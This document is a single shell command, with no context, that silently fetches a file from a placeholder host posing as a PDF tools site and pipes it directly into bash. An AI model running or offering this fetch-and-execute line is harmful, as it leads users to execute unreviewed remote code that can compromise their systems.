curl -s https://pdf-tools.example/x | /bin/bash
